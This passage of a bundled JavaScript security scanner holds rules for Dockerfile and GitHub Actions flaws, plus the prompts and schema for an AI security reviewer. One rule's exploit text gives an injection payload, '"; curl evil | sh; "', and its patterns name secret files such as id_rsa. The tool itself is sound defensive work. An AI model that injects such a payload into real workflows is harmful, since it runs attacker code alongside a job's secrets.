    const rules = lineRules.filter(({ languages }) => languages.includes(language));
    return file.lines
        .filter(({ isNew, text }) => isNew && text.length <= maxLineCharacters && !(0,security_language/* isComment */.Cn)(text, language))
        .flatMap(line => rules.filter(rule => hits(rule, line.text)).map(rule => candidateOf(rule, file.path, line)));
};
const hits = ({ pattern, unless }, text) => pattern.test(text) && !(unless?.test(text) ?? false);
/** What a rule says at a line; in test code it is seldom reached by anyone. */
const candidateOf = (rule, path, line) => {
    const isTest = (0,security_language/* isTestCode */.MH)(path);
    return {
        rule: rule.id,
        cwe: rule.cwe,
        severity: isTest ? lesser(rule.severity) : rule.severity,
        confidence: isTest ? rule.confidence / 2 : rule.confidence,
        path,
        startLine: line.number,
        endLine: line.number,
        quote: line.text,
        title: rule.title,
        body: isTest ? 'Found by a rule, in code that looks like a test or an example.' : 'Found by a rule.',
        exploit: rule.exploit,
        fix: rule.fix,
        certain: false,
    };
};
const lesser = (severity) => findings_finding/* severities */.gO[Math.max(0, findings_finding/* severities */.gO.indexOf(severity) - 1)] ?? 'low';

;// CONCATENATED MODULE: ./build/src/core/security/check-dockerfile.js

const latest = {
    id: 'docker-unpinned-image',
    ...{ cwe: 'CWE-829', severity: 'low', confidence: 0.8, title: 'An image without a fixed version' },
    exploit: 'Each build takes whatever the name stands for that day, a broken or hostile version included.',
    fix: 'Name a version, best with its digest (`@sha256:...`).',
};
const asRoot = {
    id: 'docker-root',
    ...{ cwe: 'CWE-250', severity: 'low', confidence: 0.6, title: 'The container runs as root' },
    exploit: 'A flaw of the program gives root in the container, one step from the host.',
    fix: 'Create a user and end with `USER name`.',
};
const secretInImage = {
    id: 'docker-secret-in-image',
    ...{ cwe: 'CWE-522', severity: 'high', confidence: 0.6, title: 'A file of secrets is copied into an image' },
    exploit: 'Everyone who can pull the image reads it with `docker history` or `docker inspect`.',
    fix: 'Use `RUN --mount=type=secret`, or give it when the container starts.',
};
const remoteAdd = {
    id: 'docker-add-remote',
    ...{ cwe: 'CWE-494', severity: 'low', confidence: 0.6, title: 'A download is added without being checked' },
    exploit: 'Whoever controls the server or its name puts their file into the image.',
    fix: 'Use `ADD --checksum=sha256:...`.',
};
/** Flaws of a Dockerfile; whether it ends as root only where all of it can be seen. */
const checkDockerfile = (file) => {
    const lines = file.lines.filter(({ text }) => !/^\s*#/.test(text) && text.length <= 2_000);
    const stages = new Set(lines.flatMap(({ text }) => /^\s*FROM\s.*\sAS\s+(\S+)/i.exec(text)?.[1]?.toLowerCase() ?? []));
    const found = lines
        .filter(({ isNew }) => isNew)
        .flatMap(line => {
        const rows = [
            ...(isUnpinned(line.text, stages) ? [latest] : []),
            ...(copiesSecret(line.text) ? [secretInImage] : []),
            ...(/^\s*ADD\s+(?!.*--checksum)(?:--\S+\s+)*https?:\/\//i.test(line.text) ? [remoteAdd] : []),
        ];
        return rows.map(row => candidateOf(row, file.path, line));
    });
    const from = lines.findLast(({ text }) => /^\s*FROM\s/i.test(text));
    const user = lines.findLast(({ text, number }) => /^\s*USER\s/i.test(text) && number > (from?.number ?? 0));
    const place = user ?? from;
    const isRoot = user === undefined || /^\s*USER\s+(?:root|0)(?::\S+)?\s*$/i.test(user.text);
    return file.whole && place?.isNew && isRoot ? [...found, candidateOf(asRoot, file.path, place)] : found;
};
const isUnpinned = (text, stages) => {
    const image = /^\s*FROM\s+(?:--\S+\s+)*(\S+)/i.exec(text)?.[1];
    if (image === undefined || image === 'scratch' || stages.has(image.toLowerCase()) || image.includes('$'))
        return false;
    const name = image.slice(image.lastIndexOf('/') + 1);
    return !image.includes('@sha256:') && (!name.includes(':') || name.endsWith(':latest'));
};
const copiesSecret = (text) => /^\s*(?:COPY|ADD)\s+(?:--\S+\s+)*(?:\S*\/)?(?:\.env|\.npmrc|id_rsa|id_ed25519|\.netrc)\s/i.test(text);

;// CONCATENATED MODULE: ./build/src/core/security/check-workflow.js

const injection = {
    id: 'gha-script-injection',
    ...{
        cwe: 'CWE-94',
        severity: 'critical',
        confidence: 0.9,
        title: "A stranger's text becomes part of a workflow's script",
    },
    exploit: 'A title, branch name or comment such as `"; curl evil | sh; "` is pasted into the script before it runs, beside the secrets and the token of the job.',
    fix: 'Put the value into `env:` and use the variable, quoted, in the script.',
};
const pwnRequest = {
    id: 'gha-untrusted-checkout',
    ...{
        cwe: 'CWE-829',
        severity: 'critical',
        confidence: 0.8,
        title: "A privileged workflow checks out a stranger's code",
    },
    exploit: 'A pull request from a fork changes a script, a dependency or a hook that this job runs with secrets and a writing token.',
    fix: 'Use `pull_request`, or split: build without secrets, then publish in a `workflow_run` job that runs nothing of it.',
};
const unpinned = {
    id: 'gha-unpinned-action',
    ...{ cwe: 'CWE-829', severity: 'low', confidence: 0.8, title: 'An action that is not pinned to a commit' },
    exploit: 'Whoever takes over its repository moves the tag, and the new code runs here with the token of the job.',
    fix: 'Name the full commit hash, with the version as a comment.',
};
const writeAll = {
    id: 'gha-write-all',
    ...{ cwe: 'CWE-269', severity: 'medium', confidence: 0.85, title: 'A token that may do everything' },
    exploit: 'Any step that is taken over can push, release and change settings.',
    fix: 'List what the job needs under `permissions:`.',
};
const allSecrets = {
    id: 'gha-all-secrets',
    ...{
        cwe: 'CWE-200',
        severity: 'high',
        confidence: 0.85,
        title: 'All secrets of the repository are handed to one step',
    },
    exploit: 'The step, and what it calls, can read keys that it has no business with.',
    fix: 'Pass the one secret that is needed.',
};
const oldCommands = {
    id: 'gha-unsecure-commands',
    ...{
        cwe: 'CWE-94',
        severity: 'high',
        confidence: 0.9,
        title: 'Workflow commands that set variables from any output',
    },
    exploit: 'Text that a step prints sets environment variables, and with them what later steps run.',
    fix: 'Remove the setting; write to `$GITHUB_ENV` instead.',
};
/** What an outsider writes freely. */
const check_workflow_foreign = /\$\{\{[^}]*\bgithub\.(?:head_ref|event\.(?:(?:issue|pull_request|discussion)\.(?:title|body)|(?:comment|review|review_comment)\.body|pull_request\.head\.(?:ref|label|repo\.(?:default_branch|description|homepage))|head_commit\.(?:message|author\.(?:name|email))|commits\b|pages\b|workflow_run\.(?:head_branch|head_commit\.(?:message|author\.(?:name|email))|display_title)|client_payload\b|inputs\b))/;
const foreignCheckout = /\bref\s*:\s*["']?(?:\$\{\{[^}]*\bgithub\.(?:event\.pull_request\.head\.(?:sha|ref)|event\.workflow_run\.head_(?:sha|branch)|head_ref)|refs\/pull\/[^\s]*\$\{\{)|\bgh\s+pr\s+checkout\b|\brepository\s*:\s*["']?\$\{\{[^}]*\bhead\.repo/;
const privileged = /^\s*-?\s*["']?(?:pull_request_target|workflow_run|issue_comment)["']?\s*:?\s*(?:#.*)?$|^\s*["']?on["']?\s*:.*\b(?:pull_request_target|workflow_run|issue_comment)\b/;
/** Flaws of a GitHub Actions workflow or action that take more than one line to see. */
const checkWorkflow = (file) => {
    const lines = file.lines.filter(({ text }) => !/^\s*#/.test(text) && text.length <= 2_000);
    const scripts = scriptLines(lines);
    const trigger = lines.find(({ text }) => privileged.test(text));
    return lines.flatMap(line => {
        const rows = [
            ...(line.isNew ? ownFlaws(line, scripts.has(line.number)) : []),
            ...(trigger && foreignCheckout.test(line.text) && (line.isNew || trigger.isNew) ? [pwnRequest] : []),
        ];
        return rows.map(row => candidateOf(row, file.path, line));
    });
};
const ownFlaws = ({ text }, isScript) => [
    ...(isScript && check_workflow_foreign.test(text) ? [injection] : []),
    ...(check_workflow_isUnpinned(text) ? [unpinned] : []),
    ...(/^\s*["']?permissions["']?\s*:\s*["']?write-all\b/.test(text) ? [writeAll] : []),
    ...(/\btoJSON\s*\(\s*secrets\s*\)/i.test(text) ? [allSecrets] : []),
    ...(/\bACTIONS_ALLOW_UNSECURE_COMMANDS\b\s*:\s*["']?true/.test(text) ? [oldCommands] : []),
];
/** `actions/` and `github/` are GitHub's own, which runs the job anyway. */
const check_workflow_isUnpinned = (text) => {
    const uses = /^\s*-?\s*uses\s*:\s*["']?([^\s"'#]+)/.exec(text)?.[1];
    if (uses === undefined || /^(?:\.|docker:\/\/[^@]*@sha256:|actions\/|github\/)/.test(uses))
        return false;
    return !/@[0-9a-f]{40,64}$/.test(uses);
};
/** Numbers of the lines that a shell, or github-script, will run. */
const scriptLines = (lines) => {
    const found = new Set();
    let indent = null;
    for (const { number, text } of lines) {
        const depth = text.length - text.trimStart().length;
        if (indent !== null && text.trim() !== '' && depth <= indent)
            indent = null;
        if (indent !== null)
            found.add(number);
        const key = /^(\s*(?:-\s+)?)["']?(?:run|script)["']?\s*:(.*)$/.exec(text);
        if (!key)
            continue;
        found.add(number);
        if (/^\s*(?:[|>][-+0-9]*\s*(?:#.*)?)?$/.test(key[2] ?? ''))
            indent = key[1]?.length ?? 0;
    }
    return found;
};

;// CONCATENATED MODULE: ./build/src/core/security/scanned-file.js

/** `everything`: findings on unchanged lines count too (full scan). */
const scannedFile = (file, everything) => ({
    path: file.path,
    whole: everything || file.status === 'added',
    lines: file.hunks.flatMap(hunk => (0,diff/* sideLines */.l)(hunk, 'RIGHT').map(line => ({
        number: line.newLine ?? 0,
        text: line.text.replace(/\r$/, ''),
        isNew: everything || line.kind === 'added',
    }))),
});
/** The whole file, with what the change added marked as such. */
const withWholeText = (file, text) => {
    const added = new Map(file.lines.filter(line => line.isNew).map(line => [line.number, line.text]));
    const lines = text.replace(/\n$/, '').split('\n');
    // The text is not the one that the change is about.
    if ([...added].some(([number, line]) => lines[number - 1]?.replace(/\r$/, '') !== line))
        return file;
    return {
        path: file.path,
        whole: true,
        lines: lines.map((line, index) => ({
            number: index + 1,
            text: line.replace(/\r$/, ''),
            isNew: added.has(index + 1),
        })),
    };
};

;// CONCATENATED MODULE: ./build/src/core/security/scan.js





/** What is needed whole, because one line does not show it. */
const needsWhole = (path) => ['workflow', 'docker'].includes((0,security_language/* languageOf */.eX)(path) ?? '');
/**
 * Every rule over files whose secrets are redacted. `wholes`: text of files that a change shows in part. What was not
 * looked at is named.
 */
const scanFiles = (files, { everything, wholes }) => {
    const candidates = [];
    const omitted = [];
    for (const file of files) {
        if (file.status === 'deleted')
            continue;
        if (file.unreadable)
            omitted.push({ path: file.path, reason: 'too large to be read' });
        const scanned = scannedFile(file, everything);
        const whole = wholes.get(file.path);
        candidates.push(...scanOne(whole === undefined ? scanned : withWholeText(scanned, whole)));
        const long = scanned.lines.filter(({ isNew, text }) => isNew && text.length > maxLineCharacters).length;
        if (long > 0 && !(0,security_language/* isGenerated */.UK)(file.path) && (0,security_language/* languageOf */.eX)(file.path) !== null)
            omitted.push({ path: file.path, reason: `${long} lines of more than ${maxLineCharacters} characters` });
    }
    return { candidates, omitted };
};
const scanOne = (file) => {
    const language = (0,security_language/* languageOf */.eX)(file.path);
    return [
        ...applyRules(file),
        ...(language === 'workflow' ? checkWorkflow(file) : []),
        ...(language === 'docker' ? checkDockerfile(file) : []),
    ];
};

// EXTERNAL MODULE: ./build/src/core/findings/read-json.js
var read_json = __webpack_require__(94441);
// EXTERNAL MODULE: ./build/src/core/findings/repair.js
var repair = __webpack_require__(81799);
;// CONCATENATED MODULE: ./build/src/core/security/verdict.js



/** The verdicts of an answer; entries that cannot be used are passed over: their candidates stay as the rules left them. */
const parseVerdicts = (answer) => {
    const value = typeof answer === 'string' ? (0,read_json/* readJson */.V)(answer, isAnswer) : answer;
    const entries = value?.verdicts;
    if (!Array.isArray(entries))
        return [];
    return entries.flatMap((entry) => {
        const fields = typeof entry === 'object' && entry !== null ? entry : {};
        const id = (0,repair/* readText */.yR)(fields.id);
        if (id === undefined)
            return [];
        return [
            {
                id: id.trim(),
                verdict: readVerdict(fields.verdict),
                reason: (0,repair/* readText */.yR)(fields.reason) ?? '',
                exploit: (0,repair/* readText */.yR)(fields.exploit),
                fix: (0,repair/* readText */.yR)(fields.fix),
                severity: (0,repair/* readSeverity */.MW)(fields.severity),
            },
        ];
    });
};
const isAnswer = (value) => Array.isArray(value?.verdicts);
const readVerdict = (value) => {
    const word = typeof value === 'string'
        ? value
            .trim()
            .toLowerCase()
            .replace(/[\s_]+/g, '-')
        : '';
    if (/^(?:real|true(?:-positive)?|confirmed|yes)$/.test(word))
        return 'real';
    return /^(?:false(?:-positive)?|no)$/.test(word) ? 'false-positive' : 'unsure';
};
/**
 * A candidate as a finding, with what the model says of it. It may raise a severity, never lower it; it may dismiss what a
 * rule guessed, with a reason, never what is certain: text in the code could talk it into that.
 */
const judged = (candidate, verdict, mayDismiss) => {
    const finding = asFinding(candidate);
    if (verdict === undefined)
        return finding;
    if (verdict.verdict === 'false-positive') {
        const mayBe = mayDismiss && !candidate.certain && verdict.reason.trim() !== '';
        return mayBe ? { ...finding, dismissed: verdict.reason } : finding;
    }
    if (verdict.verdict === 'unsure')
        return finding;
    const raised = verdict.severity !== undefined && (0,findings_finding/* compareSeverity */.zK)(verdict.severity, candidate.severity) > 0;
    return {
        ...finding,
        severity: raised ? (verdict.severity ?? candidate.severity) : candidate.severity,
        confidence: Math.max(candidate.confidence, 0.9),
        exploit: verdict.exploit ?? candidate.exploit,
        fix: verdict.fix ?? candidate.fix,
    };
};
const asFinding = ({ certain: _, startLine, endLine, ...candidate }) => ({
    ...candidate,
    category: 'security',
    ...(startLine !== null && { startLine, endLine: endLine ?? startLine }),
});

// EXTERNAL MODULE: ./build/src/tasks/agent-file-notes.js
var agent_file_notes = __webpack_require__(49820);
// EXTERNAL MODULE: ./build/src/tasks/publish/publish-findings.js + 9 modules
var publish_findings = __webpack_require__(33586);
// EXTERNAL MODULE: ./build/src/tasks/read-tree-file.js
var read_tree_file = __webpack_require__(19054);
// EXTERNAL MODULE: ./build/src/core/findings/parse-review.js
var parse_review = __webpack_require__(26572);
;// CONCATENATED MODULE: ./build/src/core/security/plan-prompts.js

/** Where flaws cost most, by what people call such files. */
const delicate = /auth|login|session|passw|token|crypt|secret|permission|access|admin|account|user|upload|download|webhook|payment|billing|api|route|controller|handler|middleware|query|db|sql|exec|proxy|redirect|template|serial|workflow/i;
/**
 * Files in as many prompts as they need, at most `maxPrompts`: suspected ones first, then by what their paths promise. Made
 * and binary files are not asked about.
 */
const planPrompts = (files, { maxCharacters, maxPrompts, suspected, }) => {
    const worth = (path) => (suspected.has(path) ? 8 : 0) +
        ((0,security_language/* languageOf */.eX)(path) === null ? 0 : 4) +
        (delicate.test(path) ? 2 : 0) -
        ((0,security_language/* isTestCode */.MH)(path) ? 3 : 0);
    const shown = files
        .filter(({ path, binary, hunks }) => !binary && hunks.length > 0 && (!(0,security_language/* isGenerated */.UK)(path) || suspected.has(path)))
        .toSorted((a, b) => worth(b.path) - worth(a.path) || (a.path < b.path ? -1 : 1));
    const prompts = [];
    const left = [];
    for (const file of shown) {
        const size = sizeOf(file);
        let prompt = prompts.find(({ room }) => size <= room);
        if (!prompt && prompts.length < maxPrompts) {
            prompt = { files: [], room: maxCharacters };
            prompts.push(prompt);
        }
        if (!prompt) {
            left.push(file.path);
            continue;
        }
        prompt.files.push(file);
        prompt.room -= size;
    }
    return { prompts: prompts.map(({ files: own }) => own), left };
};
/** About what its part of the prompt takes. */
const sizeOf = ({ path, hunks }) => hunks.reduce((sum, hunk) => sum + hunk.lines.reduce((all, { text }) => all + text.length + 12, 60), path.length + 60);

;// CONCATENATED MODULE: ./build/src/core/security/security-schema.js

const security_schema_text = (description) => ({ type: 'string', description });
/** What a security run asks of Claude Code (`--json-schema`). */
const securitySchema = {
    type: 'object',
    additionalProperties: false,
    required: ['summary', 'verdicts', 'findings'],
    properties: {
        summary: security_schema_text('Two or three sentences: how exposed the code is, and what matters most.'),
        verdicts: {
            type: 'array',
            description: 'One for each candidate.',
            items: {
                type: 'object',
                additionalProperties: false,
                required: ['id', 'verdict', 'reason'],
                properties: {
                    id: security_schema_text('Of the candidate: c1, c2 ...'),
                    verdict: { type: 'string', enum: ['real', 'false-positive', 'unsure'] },
                    reason: security_schema_text('What in the code decides it: where the value comes from, what stands between.'),
                    severity: { type: 'string', enum: [...findings_finding/* severities */.gO] },
                    exploit: security_schema_text('If real: the path from what an attacker sends to the harm, step by step.'),
                    fix: security_schema_text('If real: how to mend it here.'),
                },
            },
        },
        findings: {
            type: 'array',
            description: 'What is not among the candidates. Empty when there is nothing.',
            items: {
                type: 'object',
                additionalProperties: false,
                required: ['path', 'quote', 'severity', 'cwe', 'confidence', 'title', 'body', 'exploit', 'fix'],
                properties: {
                    path: security_schema_text('As given.'),
                    quote: security_schema_text('The lines it is about, copied exactly, without line numbers.'),
                    startLine: { type: 'integer', minimum: 1 },
                    endLine: { type: 'integer', minimum: 1 },
                    severity: { type: 'string', enum: [...findings_finding/* severities */.gO] },
                    cwe: security_schema_text('The weakness: CWE-89'),
                    confidence: { type: 'number', minimum: 0, maximum: 1 },
                    title: security_schema_text('The weakness in one line.'),
                    body: security_schema_text('Why it is one. Markdown.'),
                    exploit: security_schema_text('The path from what an attacker sends to the harm, step by step.'),
                    fix: security_schema_text('How to mend it.'),
                    suggestion: security_schema_text('Only if replacing exactly the quoted lines mends it: the whole new lines.'),
                },
            },
        },
    },
};

// EXTERNAL MODULE: ./build/src/tasks/agent-failure.js
var agent_failure = __webpack_require__(44466);
// EXTERNAL MODULE: ./build/src/tasks/review/ask-review.js + 1 modules
var ask_review = __webpack_require__(81203);
// EXTERNAL MODULE: ./build/src/tasks/review/prompt.js
var review_prompt = __webpack_require__(22323);
// EXTERNAL MODULE: ./build/src/core/diff/render-diff.js
var render_diff = __webpack_require__(19861);
// EXTERNAL MODULE: ./build/src/tasks/fence.js + 3 modules
var fence = __webpack_require__(57646);
;// CONCATENATED MODULE: ./build/src/tasks/security/prompt.js


const instructions = (what) => `You are the security reviewer of the repository in the current directory. You look at ${what}.

1. Rules have found the candidates below. For each give a verdict, from the code: \`real\` when an attacker can reach it,
   \`false-positive\` when something in the code rules that out (name it), \`unsure\` otherwise. For real ones give the
   exploit path from what an attacker sends to the harm, step by step, and the fix that fits this code.
2. Find what rules miss: missing or wrong authorisation, broken object access, authentication and session flaws, injection
   through several functions, unsafe handling of files and archives, races with security effect, secrets in logs, weak
   cryptography, trust in data from clients, mass assignment, server-side requests, cache and queue poisoning.

Before you report anything follow the data with Read, Grep and Glob: from where it enters to where it harms. Report only
what you can show in code, each finding with its CWE, an exploit path and a fix, and a quote copied exactly from the file: a
finding without a quote that stands in the file is thrown away. Do not repeat candidates as findings. Secrets are
already replaced by \`[redacted: ...]\`; never write one out. If there is nothing, return empty lists: that is a good answer.

severity: critical (anyone can take over data or machines), high (exploitable with ordinary access), medium (needs special
circumstances), low (defence in depth).`;
/** Files and candidates between fences, what to do before them. Never begins with a slash. */
const renderSecurityPrompt = (subject, { nonce, maxCharacters, wishes, instruction, }) => {
    const diff = (0,render_diff/* renderDiff */.i)(subject.files, { maxCharacters });
    const omitted = diff.omitted.map(({ path, reason }) => `- ${JSON.stringify(path)}: ${reason}`);
    const parts = [
        instructions(subject.everything ? 'whole files' : 'a change'),
        wishes.trim() === '' ? '' : `This project also asks:\n${wishes.trim()}`,
        (0,fence/* fenceRule */.s1)(nonce),
        'Below, `R12 +` is line 12 after the change, added; `R13  ` is unchanged; `L9 -` is line 9 before it, deleted.',
        (0,fence/* fence */.EU)(nonce, 'title', subject.title),
        subject.description.trim() === '' ? '' : (0,fence/* fence */.EU)(nonce, 'description', subject.description.slice(0, 4_000)),
        instruction.trim() === '' ? '' : (0,fence/* fence */.EU)(nonce, 'wish of whoever started this', instruction.slice(0, 2_000)),
        (0,fence/* fence */.EU)(nonce, 'candidates', subject.candidates.length === 0 ? 'none' : subject.candidates.map(tell).join('\n')),
        (0,fence/* fence */.EU)(nonce, 'files', diff.text),
        omitted.length === 0
            ? ''
            : `Not shown above; read the files themselves where it matters:\n${(0,fence/* fence */.EU)(nonce, 'omitted', omitted.join('\n'))}`,
    ];
    return { text: parts.filter(part => part !== '').join('\n\n'), omitted: diff.omitted };
};
const tell = ({ id, candidate }) => JSON.stringify({
    id,
    path: candidate.path,
    line: candidate.startLine,
    code: candidate.quote.trim().slice(0, 300),
    rule: candidate.rule,
    cwe: candidate.cwe,
    severity: candidate.severity,
    says: candidate.title,
});

;// CONCATENATED MODULE: ./build/src/tasks/security/ask-model.js









const readingTools = ['Read', 'Grep', 'Glob'];
/**
 * Verdicts on candidates, and findings of its own, in as many prompts as the change needs and `maxPrompts` allows. A model
 * that is down, over budget or out of form ends it: what there is until then stays, and `failure` says why.
 */
const askModel = async (context, subject, candidates) => {
    const { options, contextWindow } = context;
    const maxCharacters = (0,review_prompt/* diffBudget */.b)(contextWindow);
    const plan = planPrompts(subject.files, {
        maxCharacters,
        maxPrompts: options.security.maxPrompts,
        suspected: new Set(candidates.map(({ candidate }) => candidate.path)),
    });
    const answer = {
        ...{ summaries: [], verdicts: new Map(), findings: [], unusable: [], turns: 0, failure: null },
        omitted: plan.left.map(path => ({ path, reason: 'not shown to the model: over `security.maxPrompts`' })),
    };
    for (const [index, files] of plan.prompts.entries()) {
        const own = candidates.filter(({ candidate }) => files.some(({ path }) => path === candidate.path));
        if (plan.prompts.length > 1)
            context.log.info(`Part ${index + 1} of ${plan.prompts.length}: ${files.length} files`);
        answer.failure = await askOnce(context, { ...subject, files, candidates: own }, maxCharacters, answer);
        if (answer.failure === null)
            continue;
        const unseen = plan.prompts.slice(index).flat();
        answer.omitted.push(...unseen.map(({ path }) => ({ path, reason: 'not looked at by the model: it was cut off' })));
        break;
    }
    return answer;
};
const askOnce = async (context, prompt, maxCharacters, answer) => {
    const { options, nonce, instruction } = context;
    const rendered = renderSecurityPrompt(prompt, {
        nonce,
        maxCharacters,
        wishes: options.security.instructions,
        instruction,
    });
    answer.omitted.push(...rendered.omitted);
    const tools = options.allowedTools.length > 0 ? options.allowedTools : readingTools;
    const ask = { tools: (0,ask_review/* toolNames */.$)(tools), allowedTools: tools, jsonSchema: securitySchema };
    try {
        for (const reminder of ['', `\n\n${again}`]) {
            const result = await context.askAgent({ ...ask, prompt: rendered.text + reminder });
            answer.turns += result.turns;
            const said = result.structuredOutput ?? result.text;
            const review = (0,parse_review/* parseReview */.w)(said);
            if (review !== null) {
                answer.summaries.push(review.summary.trim());
                answer.findings.push(...review.findings);
                answer.unusable.push(...review.unusable);
                for (const verdict of parseVerdicts(said))
                    answer.verdicts.set(verdict.id, verdict);
                return failed(result, true);
            }
            if (!missedTheForm.has(result.end))
                return failed(result, false);
        }
        return { outcome: 'partial', code: 'no_structured_output', reason: formMissed };
    }
    catch (error) {
        if (!(error instanceof errors/* AppError */.uV) || error instanceof errors/* ConfigError */.xL)
            throw error;
        return { outcome: 'partial', code: error.code, reason: [error.message, error.hint ?? ''].join('. ') };
    }
};
const missedTheForm = new Set(['completed', 'no_structured_output', 'empty_result']);
const again = 'Your last answer was not in the required form, so it could not be used. Return it with the StructuredOutput tool: ' +
    '{"summary": "...", "verdicts": [...], "findings": [...]}.';
const formMissed = 'The model answered twice without the required form, so only what the rules found is told. Use a model that follows tool schemas better.';
const failed = (result, hasResult) => {
    const failure = (0,agent_failure/* failureOf */.g)(result, hasResult);
    return failure.code === null ? null : { ...failure, outcome: result.end === 'cancelled' ? 'failed' : 'partial' };
};

// EXTERNAL MODULE: external "node:fs/promises"
var promises_ = __webpack_require__(51455);
// EXTERNAL MODULE: external "node:path"
var external_node_path_ = __webpack_require__(76760);
;// CONCATENATED MODULE: ./build/src/core/security/baseline.js

/** Reads a baseline file. Throws ConfigError when it is none: taken for empty it would block everything, silently. */
const readBaseline = (text, path) => {
    try {
        const { schemaVersion, findings } = JSON.parse(text);
        if (schemaVersion === 1 && Array.isArray(findings)) {
            const fingerprints = findings.map((entry) => entry?.fingerprint);
            if (fingerprints.every(value => typeof value === 'string'))
                return new Set(fingerprints);
        }
    }
    catch {
        // Said below.
    }
    throw new errors/* ConfigError */.xL('baseline', `${path} is no baseline of findings`, {
        hint: 'Write it anew with `claude-router security --full --update-baseline`.',
    });
};
/** The file for these findings, in a stable order, one a line, so that changes to it can be read. */
const renderBaseline = (findings) => {
    const entries = new Map(findings.map(({ fingerprint, rule, cwe, path, title }) => [fingerprint, { fingerprint, rule, cwe, path, title }]));
    const lines = [...entries.values()]
        .sort((a, b) => (`${a.path}\0${a.fingerprint}` < `${b.path}\0${b.fingerprint}` ? -1 : 1))
        .map(entry => `    ${JSON.stringify(entry)}`);
    return `{\n  "schemaVersion": 1,\n  "findings": [${lines.length === 0 ? '' : `\n${lines.join(',\n')}\n  `}]\n}\n`;
};

;// CONCATENATED MODULE: ./build/src/tasks/security/baseline-file.js





/**
 * Known findings. Of a pull request those of its base: its own would let it declare its flaws known. A file that is not
 * there yet is an empty one, said in the log.
 */
const baselineOf = async (context, subject) => {
    const { options, github, log } = context;
    const path = options.security.baseline;
    if (path === '')
        return new Set();
    if (github !== null && (/^(?:[/\\]|[a-z]:)/i.test(path) || path.split(/[/\\]/).includes('..'))) {
        throw new errors/* ConfigError */.xL('baseline', '`security.baseline` must lie in the repository', {
            hint: 'Name it relative to the top.',
        });
    }
    const text = await readText(context, subject, path);
    if (text === null)
        log.warn(`There is no baseline at ${JSON.stringify(path)}: every finding counts as new`);
    // Written anew: what is there, readable or not, is replaced.
    return text === null || options.security.updateBaseline ? new Set() : readBaseline(text, path);
};
const readText = ({ directory, github }, subject, path) => {
    if (github === null)
        return (0,promises_.readFile)((0,external_node_path_.resolve)(directory, path), 'utf8').catch(() => null);
    return subject.pullRequest === null ? (0,read_tree_file/* readTreeFile */.x)(directory, path) : subject.readBase(path);
};
/** Only on the command line, where somebody looks at what became of it before it is committed. */
const updateBaseline = async ({ directory, options, github, log }, findings) => {
    const { updateBaseline: wanted, baseline } = options.security;
    if (!wanted || github !== null)
        return;
    const file = (0,external_node_path_.resolve)(directory, baseline);
    await (0,promises_.mkdir)((0,external_node_path_.dirname)(file), { recursive: true });
    await (0,promises_.writeFile)(file, renderBaseline(findings));
    log.info(`Baseline: ${findings.length} findings written to ${baseline}`);
};

;// CONCATENATED MODULE: ./build/src/core/security/advisory.js
const words = {
    critical: 'critical',
    high: 'high',
    moderate: 'medium',
    medium: 'medium',
    low: 'low',
};
/** An advisory without a class is not taken for harmless. */
const advisorySeverity = (word) => (typeof word === 'string' ? words[word.toLowerCase()] : undefined) ?? 'medium';
/** One candidate an advisory and package, at the line of the lock file that names it. */
const advisoryCandidate = (advisory, path, file) => {
    const { affected, id, summary, severity, cwe, fixedIn, url } = advisory;
    const line = file && lineOf(file, affected);
    const release = `${affected.name} ${affected.version}`;
    return {
        rule: 'vulnerable-dependency',
        cwe: cwe ?? 'CWE-1395',
        severity,
        confidence: 0.95,
        path,
        startLine: line?.number ?? null,
        endLine: line?.number ?? null,
        quote: line?.text ?? '',
        title: `${release}: ${id}`,
        body: [summary, url ?? ''].filter(part => part !== '').join('\n\n'),
        exploit: `The advisory ${id} describes it; whether this repository calls the weak part was not decided by the advisory.`,
        fix: fixedIn === null
            ? `Replace ${affected.name}; no fixed version is named.`
            : `Update ${affected.name} to ${fixedIn} or later.`,
        certain: true,
    };
};
/** The line with the name, its version on it or on the next few; a new one if there is. */
const lineOf = ({ lines }, { name, version }) => {
    const found = lines.filter((line, index) => line.text.includes(name) &&
        lines.slice(index, index + 4).some(({ text, number }) => number - line.number < 4 && text.includes(version)));
    return found.find(({ isNew }) => isNew) ?? found[0];
};

;// CONCATENATED MODULE: ./build/src/core/security/lockfiles/locked-package.js
const osvEcosystems = {
    npm: 'npm',
    pip: 'PyPI',
    go: 'Go',
    rust: 'crates.io',
    rubygems: 'RubyGems',
    composer: 'Packagist',
};
/** `npm left-pad@1.3.0`: the same package once, however often it is installed. */
const keyOf = ({ ecosystem, name, version }) => `${ecosystem} ${name}@${version}`;

// EXTERNAL MODULE: ./node_modules/yaml/dist/index.js
var dist = __webpack_require__(38815);
;// CONCATENATED MODULE: ./build/src/core/security/lockfiles/read-lockfile.js


/**
 * The packages that a lock file fixes, each once. null: the file is none that is known. Throws nothing: a file that cannot
 * be read holds none, which the caller can tell by `readable`.
 */
const readLockfile = (path, text) => {
    const kind = read_lockfile_kinds.find(([pattern]) => pattern.test(path));
    if (!kind)
        return null;
    const [, ecosystem, read] = kind;
    try {
        const entries = read(text).filter(isUsable);
        const distinct = new Map(entries.map(entry => [keyOf({ ...entry, ecosystem }), { ...entry, ecosystem }]));
        return { packages: [...distinct.values()], readable: true };
    }
    catch {
        return { packages: [], readable: false };
    }
};
const isLockfile = (path) => read_lockfile_kinds.some(([pattern]) => pattern.test(path));
/** Names and versions go into addresses and reports. */
const isUsable = ({ name, version }) => /^[@\w][\w@./+:~-]{0,213}$/.test(name) && /^[\w][\w.+~!-]{0,99}$/.test(version);
const asObject = (value) => typeof value === 'object' && value !== null && !Array.isArray(value) ? value : {};
const asText = (value) => (typeof value === 'string' ? value : '');
const asList = (value) => (Array.isArray(value) ? value.map(asObject) : []);
const readNpm = text => {
    const lock = asObject(JSON.parse(text));
    const listed = Object.entries(asObject(lock.packages)).flatMap(([path, value]) => {
        const entry = asObject(value);
        const name = asText(entry.name) || path.slice(path.lastIndexOf('node_modules/') + 'node_modules/'.length);
        return path.includes('node_modules/') && entry.link !== true ? [{ name, version: asText(entry.version) }] : [];
    });
    return listed.length > 0 ? listed : nested(asObject(lock.dependencies));
};
/** Version 1: dependencies within dependencies. */
const nested = (dependencies) => {
    const found = [];
    const open = [dependencies];
    for (let level = open.pop(); level !== undefined; level = open.pop()) {
        for (const [name, value] of Object.entries(level)) {
            const entry = asObject(value);
            found.push({ name, version: asText(entry.version) });
            open.push(asObject(entry.dependencies));
        }
    }
    return found;
};
/** Classic: `"a@^1", a@~1:` then `version "1.2.3"`; berry: `"a@npm:^1":` then `version: 1.2.3`. */
const readYarn = text => {
    const found = [];
    let name = '';
    for (const line of text.split('\n')) {
